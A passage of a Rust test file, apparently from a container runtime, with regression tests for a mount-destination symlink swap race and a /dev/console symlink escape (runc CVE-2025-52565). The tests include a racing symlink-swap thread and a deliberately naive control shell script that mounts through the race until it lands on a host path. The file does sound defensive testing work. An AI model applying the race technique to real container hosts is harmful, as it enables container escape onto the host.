/// own mount table shows it) and never on the host path (host mount table, host directory
/// contents). Control: a deliberately naive runtime step — mount(2) by path, in a private mount
/// namespace — against the same racer does land on the host path.
#[test]
fn mount_destination_swap_race_stays_in_rootfs() {
    if !require_root() || !require_tool("unshare") {
        return;
    }
    let h = Harness::new("swap_race");
    let tok = token();
    let host_dir = PathBuf::from(format!("/tmp/bvt-race-{tok}"));
    fs::create_dir_all(&host_dir).unwrap();
    fs::write(host_dir.join("canary"), "host").unwrap();
    {
        let d = host_dir.clone();
        h.on_drop("host race dir", move || {
            let _ = fs::remove_dir_all(d);
        });
    }
    let vol = h.mkdir("vol");
    fs::create_dir(vol.join("a")).unwrap();
    std::os::unix::fs::symlink(&host_dir, vol.join("b")).unwrap();
    let (a, bb) = (vol.join("a"), vol.join("b"));
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let racer = {
        let stop = stop.clone();
        std::thread::spawn(move || {
            let mut swaps = 0u64;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                swaps += bvisor::sys::rename_exchange(&a, &bb).is_ok() as u64;
            }
            swaps
        })
    };
    let mut b = h.bundle();
    // The symlink's target resolved inside the rootfs exists too, so both outcomes mount.
    fs::create_dir_all(b.host_path(&host_dir.to_string_lossy())).unwrap();
    b.bind(&vol, "/vol", &["rw"]);
    let src = format!("bvtrace{}", &tok[..8.min(tok.len())]);
    b.add_mount(
        json!({"destination": "/vol/a", "type": "tmpfs", "source": src,
        "options": ["size=64k"]}),
    );
    b.sh(&format!("grep {src} /proc/self/mountinfo"));
    let before = mount_snapshot();
    let starts = 500;
    let mut places = std::collections::BTreeMap::new();
    let mut bad = Vec::new();
    for _ in 0..starts {
        let out = h.run_container(&b, "race");
        let mount_points: Vec<String> = out
            .stdout
            .lines()
            .filter_map(|l| l.split_whitespace().nth(4).map(str::to_string))
            .collect();
        match (out.ok(), mount_points.as_slice()) {
            (true, [p]) => *places.entry(p.clone()).or_insert(0) += 1,
            _ => bad.push(out.to_string()),
        }
        if host_mount_lines(&src).len() + host_mount_lines(&host_dir.to_string_lossy()).len() > 0 {
            bad.push("the tmpfs is in the host's mount table".into());
            break;
        }
    }
    // Control: the naive step against the same racer.
    let naive_root = h.mkdir("naive-root");
    fs::create_dir(naive_root.join("vol")).unwrap();
    let script = format!(
        "mount --bind {vol} {root}/vol || exit 2
         for i in $(seq 500); do
           mount -t tmpfs bvtnaive {root}/vol/a 2>/dev/null || continue
           if grep -q ' {host} ' /proc/self/mountinfo; then echo escaped after $i; exit 0; fi
           umount {root}/vol/a 2>/dev/null || umount {host}
         done
         exit 1",
        vol = vol.display(),
        root = naive_root.display(),
        host = host_dir.display()
    );
    let naive = run_host(
        "unshare",
        &["-m", "--propagation", "private", "sh", "-c", &script],
        &h.dir,
    );
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let swaps = racer.join().unwrap();

    assert!(
        bad.is_empty(),
        "{} bad starts:\n{}",
        bad.len(),
        bad.join("\n")
    );
    // Inside: on the volume (the directory it was mounted on may since have been renamed to
    // `b`) or at the symlink's target resolved in the rootfs.
    for p in places.keys() {
        assert!(
            p.starts_with("/vol/") || p == &host_dir.to_string_lossy(),
            "tmpfs at {p} inside the container: {places:?}"
        );
    }
    let (gone, added) = h.mount_changes(&before);
    assert!(gone.is_empty() && added.is_empty(), "-{gone:?} +{added:?}");
    let entries: Vec<_> = fs::read_dir(&host_dir).unwrap().flatten().collect();
    assert_eq!(entries.len(), 1, "the host directory changed");
    eprintln!("{starts} starts with {swaps} swaps: tmpfs inside the container at {places:?}");
    assert!(
        naive.ok() && naive.stdout.contains("escaped"),
        "control: the naive mount never reached the host path: {naive}"
    );
}

/// A rootfs (without a /dev tmpfs) whose /dev/console is a symlink is refused when a terminal
/// is asked for: the pty bind mount would land on the symlink's target (runc CVE-2025-52565).
/// The host file of the same name is untouched. Control: without the symlink, the pty is
/// mounted at /dev/console.
#[test]
fn console_symlink_is_refused() {
    if !require_root() {
        return;
    }
    let h = Harness::new("console_symlink");
    let tok = token();
    let host_file = PathBuf::from(format!("/tmp/bvt-console-{tok}"));
    fs::write(&host_file, "host").unwrap();
    {
        let f = host_file.clone();
        h.on_drop("host console file", move || {
            let _ = fs::remove_file(f);
        });
    }
    let with_console = |link: bool, tag: &str| {
        let mut b = h.bundle();
        b.remove_mount("/dev");
        fs::create_dir_all(b.host_path("/dev")).unwrap();
        let _ = fs::remove_file(b.host_path("/dev/console"));
        if link {
            fs::write(b.host_path(&host_file.to_string_lossy()), "rootfs").unwrap();
            std::os::unix::fs::symlink(&host_file, b.host_path("/dev/console")).unwrap();
        }
        b.config["process"]["terminal"] = json!(true);
        b.args(&["sleep", "100"]);
        let sock = h.dir.join(format!("console-{tag}.sock"));
        let listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
        let id = h.id(tag);
        let out = h.create(&b, &id, &["--console-socket", &sock.to_string_lossy()]);
        (b, id, out, listener)
    };
    let before = mount_snapshot();
    let (_b, id, out, _l) = with_console(true, "link");
    assert!(!out.ok(), "a /dev/console symlink was accepted: {out}");
    assert!(out.stderr.contains("/dev/console"), "{out}");
    assert!(!h.state_dir(&id).exists());
    assert_eq!(fs::read_to_string(&host_file).unwrap(), "host");
    let (gone, added) = h.mount_changes(&before);
    assert!(gone.is_empty() && added.is_empty(), "-{gone:?} +{added:?}");

    // Control: the same bundle without the symlink gets the pty at /dev/console.
    let (_b, id, out, _l) = with_console(false, "plain");
    out.expect_ok();
    let pid = h.state_pid(&id);
    let mi = fs::read_to_string(format!("/proc/{pid}/mountinfo")).unwrap();
    assert!(
        mi.lines()
            .any(|l| l.contains(" /dev/console ") && l.contains(" - devpts ")),
        "{mi}"
    );
}
